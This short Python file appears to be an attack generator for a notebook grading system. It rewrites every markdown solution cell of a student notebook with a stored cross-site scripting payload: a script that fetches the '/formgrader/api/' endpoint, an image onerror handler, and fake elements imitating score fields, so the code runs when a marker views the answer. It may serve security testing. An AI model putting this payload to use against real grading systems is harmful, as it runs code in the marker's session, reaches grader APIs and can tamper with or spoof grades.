"""Write scripts into the written answers. Success: they are active on the page where the marker reads them."""


def make(notebook, folder):
    text = "Because $a <b> c$.\n\n<script>fetch('/formgrader/api/')</script><img src=x onerror=alert(1)>\n\n<div id='written' class='score'><input id='written'></div>"
    for cell in notebook["cells"]:
        if cell["cell_type"] == "markdown" and cell["metadata"].get("nbgrader", {}).get("solution"):
            cell["source"] = text
    return notebook
